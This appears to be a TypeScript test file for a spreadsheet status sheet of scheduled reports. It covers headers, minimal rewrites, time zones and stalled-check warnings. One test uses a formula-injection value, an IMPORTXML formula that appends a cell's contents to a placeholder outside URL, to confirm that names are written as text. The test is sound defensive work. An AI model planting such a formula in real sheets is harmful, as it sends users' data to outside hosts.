import type { SavedReport } from '../../../src/reports/saved-report';
import { listSavedReports } from '../../../src/reports/status/report-list';
import { buildStatusTable, updateStatusSheet } from '../../../src/reports/status/status-sheet';
import { formatTime } from '../../fakes/format-time';
import { ANA } from '../file';
import { createReports, HOUR, START } from '../scheduled-file';

const STATUS = 'Refresh status';
const TIME = { timeZone: 'Europe/Berlin', formatTime };
/** 15 September 2026, 14:40 in Berlin. */
const START_SERIAL = 46_280 + 14 / 24 + 40 / 1_440;

/** Reports that have run in a check of Ana. */
function checkedReports(...names: readonly string[]) {
  const all = createReports(...names);
  all.file.slowRequests(1_000);
  all.ana.runHourlyCheck();
  const { sheets } = all.file;
  const readNames = () => sheets.readValues(STATUS).map(([name]) => name ?? '');
  return { ...all, sheets, readNames, update: () => updateStatusSheet(all.ana.services) };
}

it('the status of the reports of a file is a sheet with a line above the headers that describes it', () => {
  const { sheets, readNames } = checkedReports('Revenue', 'Retention');
  expect(sheets.sheets.map(({ title }) => title)).toEqual(['Sheet1', STATUS, 'Revenue', 'Retention']);
  expect(readNames()).toEqual(['Refresh status · times in Europe/Berlin', 'Report', 'Revenue', 'Retention']);
});

it('the status sheet changes no cell when it is written again, and only cells that differ', () => {
  const { ana, ids, file, sheets, update } = checkedReports('Revenue', 'Retention');
  const before = [sheets.batches.length, sheets.describeTabs()];
  for (let nth = 0; nth < 10; nth++) {
    file.clock.advance(HOUR / 10);
    update();
  }
  expect([sheets.batches.length, sheets.describeTabs()]).toEqual(before);
  const { coverage, ...record } = ana.services.records.readRunRecord(ids[0]!);
  ana.services.records.writeRunRecord(ids[0]!, {
    ...record,
    coverage: { ...coverage!, newestDay: '2026-09-13' },
  });
  update();
  expect(JSON.stringify(sheets.batches.at(-1)).match(/numberValue|stringValue/g)).toHaveLength(1);
});

it('the status sheet contains names as texts, even if they look like formulas', () => {
  const name = '=IMPORTXML("https://x.test/"&A1,"//a")';
  const { sheets, readNames } = checkedReports(name, '+1');
  expect(readNames().slice(2)).toEqual([name, '+1']);
  expect(JSON.stringify(sheets.batches)).not.toContain('formulaValue');
});

/** The row of a report that was refreshed an hour ago and was checked two hours ago, in the zone. */
function rowOf(change: Partial<SavedReport> = {}, timeZone = TIME.timeZone) {
  const { ana } = checkedReports('Revenue');
  const [report] = listSavedReports(ana.services);
  const lastRun = { ...report!.lastRun!, endedAt: START - HOUR };
  const times = { lastRun, nextRun: START + HOUR, lastChecked: START - 2 * HOUR };
  const time = { now: START, timeZone, formatTime };
  const { columns, rows } = buildStatusTable([{ ...report!, id: 'r1', ...times, ...change }], time);
  return Object.fromEntries(columns.map(({ label }, index) => [label, rows[0]![index]]));
}

it('a row of the status sheet shows the state of a report, with times in the zone of the spreadsheet', () => {
  expect(rowOf()).toEqual({
    Report: 'Revenue',
    State: 'Up to date',
    Refreshes: 'Every day, when complete',
    Owner: ANA,
    'Newest day in the sheet': '2026-09-14',
    'Last run': expect.closeTo(START_SERIAL - 1 / 24, 7),
    'Next run': expect.closeTo(START_SERIAL + 1 / 24, 7),
    'Last checked': expect.closeTo(START_SERIAL - 2 / 24, 7),
    Problem: '',
    Id: 'r1',
  });
  expect(rowOf({}, 'America/New_York')['Last run']).toBeCloseTo(START_SERIAL - 7 / 24, 7);
});

it.each([
  ['26 hours', 26 * HOUR, ''],
  [
    'a little more',
    26 * HOUR + 1,
    `Google has stopped the hourly check of ${ANA}. Since the time in “Last checked”, this report has not been refreshed. The owner must choose Ad Reports ▸ Open, or you can take over the report.`,
  ],
])(
  'a row of the status sheet says that the hourly check has stopped: last run %s ago',
  (_, silence, sentence) => {
    expect(rowOf({ lastChecked: START - silence })['Problem']).toBe(sentence);
  },
);
